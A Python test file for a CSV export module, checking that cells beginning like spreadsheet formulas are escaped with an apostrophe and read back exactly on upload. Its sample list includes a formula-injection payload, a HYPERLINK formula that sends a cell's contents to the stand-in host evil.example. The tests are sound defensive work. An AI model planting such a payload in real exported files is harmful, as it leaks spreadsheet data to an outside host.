"""The one CSV writer: no cell a spreadsheet would run as a formula, and the escape reads back exactly."""

import csv
import io
from datetime import date
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from cso.core import csvfiles
from cso.core.uploads import check_upload, read_table

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def read_back(lines) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines).removeprefix(csvfiles.BOM), newline="")))


def test_a_cell_that_begins_like_a_formula_is_written_as_text():
    rows = read_back(csvfiles.lines(["名称"], [[name] for name in FORMULAS]))
    assert [row[0] for row in rows[1:]] == ["'" + name for name in FORMULAS]
    assert not any(row[0].startswith(csvfiles.FORMULA_STARTS) for row in rows)


def test_numbers_dates_and_plain_text_are_written_as_they_are():
    rows = read_back(csvfiles.lines(["a", "b", "c", "d", "e", "f"],
                                    [[-5, Decimal("-1.5"), 3.0, date(2025, 6, 20), "兴宁区老年协会", None]]))
    assert rows[1] == ["-5", "-1.5", "3", "2025-06-20", "兴宁区老年协会", ""]


def test_the_file_begins_with_a_bom_for_excel():
    assert next(csvfiles.lines(["名称"], [])).startswith("\ufeff")


@given(st.text())
def test_restore_gives_back_what_neutralise_was_given(text):
    assert csvfiles.restore(csvfiles.neutralise(text)) == text


@given(st.text())
def test_no_neutralised_cell_begins_like_a_formula(text):
    assert not csvfiles.neutralise(text).startswith(csvfiles.FORMULA_STARTS)


def test_an_uploaded_csv_reads_the_escaped_cells_back_as_they_were_exported():
    names = [*FORMULAS[:4], "'=already quoted", "普通名称"]
    text = "".join(csvfiles.lines(["名称"], [[name] for name in names]))
    table = read_table(check_upload("名录.csv", text.encode("utf-8")))
    assert [values[0] for _, values in table.rows] == names
